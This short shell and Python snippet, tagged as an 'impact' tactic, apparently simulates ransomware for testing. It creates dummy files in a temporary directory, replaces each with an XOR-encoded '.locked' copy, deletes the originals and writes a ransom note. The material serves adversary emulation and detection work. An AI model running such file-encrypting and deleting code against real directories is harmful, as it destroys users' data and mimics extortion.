# tactic: impact
# a Python script rewrites files with encrypted copies and leaves a ransom note
d=$(mktemp -d); for i in 1 2 3; do echo doc$i > $d/d$i.txt; done
python3 -c "import os,sys
d=sys.argv[1]
for n in os.listdir(d):
    p=os.path.join(d,n); b=open(p,'rb').read()
    open(p+'.locked','wb').write(bytes(x^0x5a for x in b)); os.remove(p)
open(os.path.join(d,'README_RESTORE_FILES.txt'),'w').write('pay')" $d
